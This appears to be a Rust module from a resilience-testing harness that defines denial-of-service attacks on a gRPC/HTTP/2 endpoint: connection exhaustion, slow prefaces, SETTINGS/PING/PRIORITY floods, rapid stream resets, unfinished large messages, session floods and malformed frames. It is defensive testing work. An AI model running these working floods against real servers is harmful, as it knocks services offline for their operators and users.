//! Attacks on the MACP port (macp-v1 over gRPC, RFC 9113).

use std::iter;

use super::{
    http2::{
        DATA, END_HEADERS, END_STREAM, HEADERS, Http2, PING, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE,
        frame, headers, opening,
    },
    protobuf::{bytes, framed, send, start},
};
use crate::{
    attack::{Attack, Attacker},
    crowd::{Crowd, Then},
    garbage,
};

pub(super) const ATTACKS: &[Attack] = &[
    Attack { name: "grpc_silent", about: "2,000 connections that say nothing", processes: 1, run: silent },
    Attack { name: "grpc_idle", about: "2,000 connections that make no call", processes: 1, run: idle },
    Attack {
        name: "grpc_streams",
        about: "1,000 connections with 256 streams each that say nothing",
        processes: 1,
        run: streams,
    },
    Attack { name: "grpc_slow", about: "300 prefaces, a byte each 100 ms", processes: 1, run: slow },
    Attack { name: "grpc_settings", about: "4 connections that flood SETTINGS", processes: 1, run: settings },
    Attack { name: "grpc_ping", about: "4 connections that flood PING", processes: 1, run: ping },
    Attack { name: "grpc_priority", about: "4 connections that flood PRIORITY", processes: 1, run: priority },
    Attack {
        name: "grpc_reset",
        about: "4 connections that begin calls and end them at once",
        processes: 1,
        run: reset,
    },
    Attack {
        name: "grpc_unfinished",
        about: "4 × 256 messages of 4 MB, no end",
        processes: 1,
        run: unfinished,
    },
    Attack { name: "grpc_sessions", about: "sessions as fast as they go", processes: 1, run: sessions },
    Attack {
        name: "grpc_bytes",
        about: "sessions of 1 MB as fast as they go",
        processes: 1,
        run: large_sessions,
    },
    Attack {
        name: "grpc_writes",
        about: "sessions of 4 MB, 16 at a time, each cancelled at once",
        processes: 1,
        run: large_writes,
    },
    Attack { name: "grpc_garbage", about: "damaged frames and messages", processes: 1, run: garbage },
];

/// Frames that are sent again without end, at a time.
const FRAMES: usize = 1_000;
/// Calls of one connection that are under way.
const CALLS: usize = 64;

/// The streams of calls, each with how much of its message was sent.
type Calls = Vec<(u32, usize)>;

fn silent(attacker: &mut Attacker) {
    Crowd::new(attacker.targets.macp(), 2_000, Vec::new()).run(attacker);
}

fn idle(attacker: &mut Attacker) {
    Crowd::new(attacker.targets.macp(), 2_000, opening()).run(attacker);
}

fn streams(attacker: &mut Attacker) {
    let calls = (1..512_u32)
        .step_by(2)
        .flat_map(|stream| frame(HEADERS, END_HEADERS, stream, &headers("StreamSession")));
    let script = opening().into_iter().chain(calls).collect();
    let crowd = Crowd::new(attacker.targets.macp(), 1_000, script);
    Crowd { units: 256, ..crowd }.run(attacker);
}

fn slow(attacker: &mut Attacker) {
    Crowd::new(attacker.targets.macp(), 300, opening()).slow().run(attacker);
}

fn flood(attacker: &Attacker, frame: &[u8]) {
    let opening = opening();
    let from = opening.len();
    let script = [opening, frame.repeat(FRAMES)].concat();
    Crowd::new(attacker.targets.macp(), 4, script).flood(from, FRAMES).run(attacker);
}

fn settings(attacker: &mut Attacker) {
    flood(attacker, &frame(SETTINGS, 0, 0, &[]));
}

fn ping(attacker: &mut Attacker) {
    flood(attacker, &frame(PING, 0, 0, b"hostile!"));
}

fn priority(attacker: &mut Attacker) {
    flood(attacker, &frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 16]));
}

fn reset(attacker: &mut Attacker) {
    let calls = (1..200_000_u32).step_by(2).flat_map(|stream| {
        let begin = frame(HEADERS, END_HEADERS, stream, &headers("Send"));
        [begin, frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())].concat()
    });
    let script: Vec<u8> = opening().into_iter().chain(calls).collect();
    let crowd = Crowd::new(attacker.targets.macp(), 4, script);
    Crowd { then: Then::Reopen, units: 200_000, turn: std::time::Duration::ZERO, ..crowd }.run(attacker);
}

fn unfinished(attacker: &mut Attacker) {
    let message = framed(&send("Signal", "m", "", &vec![b'x'; 4_000_000]));
    let all_but_the_end = &message[..message.len() - 1];
    let place = attacker.targets.macp();
    let mut connections: Vec<Option<(Http2, Calls)>> = iter::repeat_with(|| None).take(4).collect();
    while !attacker.is_over() {
        for connection in &mut connections {
            let Some((http2, calls)) = connection else {
                *connection = Http2::connect(&place).ok().map(|mut http2| {
                    let calls = (0..256).map(|_| (http2.call("Send"), 0)).collect();
                    attacker.count(256);
                    (http2, calls)
                });
                continue;
            };
            for (stream, sent) in calls {
                *sent += http2.data(*stream, &all_but_the_end[*sent..], false);
            }
            if http2.turn().is_err() {
                *connection = None;
            }
        }
    }
}

fn sessions(attacker: &mut Attacker) {
    start_sessions(attacker, 16, CALLS, Ending::Never);
}

fn large_sessions(attacker: &mut Attacker) {
    start_sessions(attacker, 1_000_000, CALLS, Ending::Never);
}

/// What the runtime has to write goes on, as sessions that have ended make room for others.
fn large_writes(attacker: &mut Attacker) {
    start_sessions(attacker, 4_000_000, 16, Ending::Cancel);
}

/// What becomes of a session that was started.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Ending {
    Never,
    Cancel,
}

/// A call that is under way.
struct Call {
    stream: u32,
    message: Vec<u8>,
    sent: usize,
    /// The session that it starts.
    session: Option<String>,
}

/// Starts sessions with contexts of so many bytes, a call each; so many calls at a time.
fn start_sessions(attacker: &mut Attacker, context_bytes: usize, calls_max: usize, ending: Ending) {
    let (place, payload) = (attacker.targets.macp(), start(context_bytes));
    while !attacker.is_over() {
        let Ok(mut http2) = Http2::connect(&place) else { continue };
        let mut calls: Vec<Call> = Vec::new();
        while !attacker.is_over() {
            while calls.len() < calls_max {
                let session = format!("hostile {:032x}", attacker.random.u128(..));
                let message = framed(&send("SessionStart", "start", &session, &payload));
                calls.push(Call { stream: http2.call("Send"), message, sent: 0, session: Some(session) });
                attacker.count(1);
            }
            for call in &mut calls {
                call.sent += http2.data(call.stream, &call.message[call.sent..], true);
            }
            for at in
                (0..calls.len()).rev().filter(|at| http2.has_ended(calls[*at].stream)).collect::<Vec<_>>()
            {
                let Some(session) = calls.swap_remove(at).session.filter(|_| ending == Ending::Cancel) else {
                    continue;
                };
                let message = framed(&bytes(1, session.as_bytes()));
                calls.push(Call { stream: http2.call("CancelSession"), message, sent: 0, session: None });
            }
            if http2.turn().is_err() {
                break;
            }
        }
    }
}

fn garbage(attacker: &mut Attacker) {
    let call = |message: &[u8]| {
        let begin = frame(HEADERS, END_HEADERS, 1, &headers("Send"));
        [begin, frame(DATA, END_STREAM, 1, &framed(message))].concat()
    };
    let templates = [
        call(&send("Signal", "m", "", b"{}")),
        call(&send("SessionStart", "start", "garbage", &start(8))),
        call(&send("Vote", "v", "garbage", br#"{"proposal_id":"p","vote":"approve"}"#)),
        frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]),
        frame(WINDOW_UPDATE, 0, 0, &[0x7f, 0xff, 0xff, 0xff]),
        frame(9, 0, 1, &[0; 64]),
        frame(PING, 0, 0, &[0; 8]),
    ];
    let place = attacker.targets.macp();
    garbage::throw(attacker, &place, &opening(), |random| garbage::damaged(&templates, random));
}
